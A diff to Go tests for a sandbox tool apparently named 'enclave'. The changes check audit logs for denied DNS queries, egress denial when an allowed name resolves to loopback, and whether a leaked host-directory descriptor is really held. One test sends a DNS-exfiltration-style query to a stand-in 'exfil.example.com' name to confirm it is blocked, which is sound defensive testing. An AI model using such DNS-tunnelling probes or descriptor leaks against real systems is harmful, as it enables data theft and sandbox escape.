@@ -248,8 +248,20 @@ func TestDNSToHostResolver(t *testing.T) {
 	tc.requireZero(t)
 	// The sandbox's own resolver answers nothing off the allowlist, and
 	// every query it got is on record.
-	f.run(runOpts{}, "dns", "127.0.0.1:53", "data-"+randHex(4)+".exfil.example.com")
-	_ = r
+	name := "data-" + randHex(4) + ".exfil.example.com"
+	r = f.run(runOpts{}, "dns", "127.0.0.1:53", name)
+	recorded := false
+	for _, e := range f.events(r.id) {
+		if e.Kind == "dns" && strings.Contains(string(e.Data), name) {
+			recorded = true
+			if e.Decision != "deny" {
+				t.Errorf("the sandbox's resolver answered a name off the allowlist: %s", e.Data)
+			}
+		}
+	}
+	if !recorded {
+		t.Errorf("a DNS query to the sandbox's resolver is not in the audit log")
+	}
 }
 
 func TestIPv6Loopback(t *testing.T) {
@@ -301,8 +313,17 @@ func TestProxyAllowedNameResolvingToLoopback(t *testing.T) {
 	p := strconv.Itoa(port)
 	// The policy allows the name; the proxy must still refuse the
 	// loopback address it resolves to.
-	f.run(runOpts{flags: []string{"--allow-host", "localhost:" + p}}, "proxyget", "http://localhost:"+p+"/", "https://localhost:"+p+"/")
+	r := f.run(runOpts{flags: []string{"--allow-host", "localhost:" + p}}, "proxyget", "http://localhost:"+p+"/", "https://localhost:"+p+"/")
 	c.requireZero(t)
+	denied := 0
+	for _, e := range f.events(r.id) {
+		if e.Kind == "egress" && e.Decision == "deny" {
+			denied++
+		}
+	}
+	if denied == 0 {
+		t.Errorf("no egress denial on record for the loopback-resolving name")
+	}
 }
 
 func TestProxySmuggling(t *testing.T) {
@@ -491,7 +512,16 @@ func TestLeakedDirectoryFD(t *testing.T) {
 	out, h := snapshot(t, f.outside), snapshot(t, f.home)
 	// fd 3 is a host HOME, fd 7 a host directory: as a wrapper script
 	// doing "exec 7</some/dir; exec enclave run ..." would leave them.
-	r := f.run(runOpts{extra: []*os.File{home, nil, nil, nil, dir}}, "fds")
+	leaked := false
+	r := f.run(runOpts{extra: []*os.File{home, nil, nil, nil, dir}, started: func(cmd *exec.Cmd) {
+		// The setup is right only if enclave really holds the host dir
+		// on fd 7.
+		l, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/7", cmd.Process.Pid))
+		leaked = l == f.outside
+	}}, "fds")
+	if !leaked {
+		t.Fatalf("enclave did not start with the host directory on fd 7: the test is blind")
+	}
 	requireSame(t, "the directory behind the leaked fd", out, snapshot(t, f.outside))
 	requireSame(t, "the fake HOME behind the leaked fd", h, snapshot(t, f.home))
 	f.requireNoLeak(r)
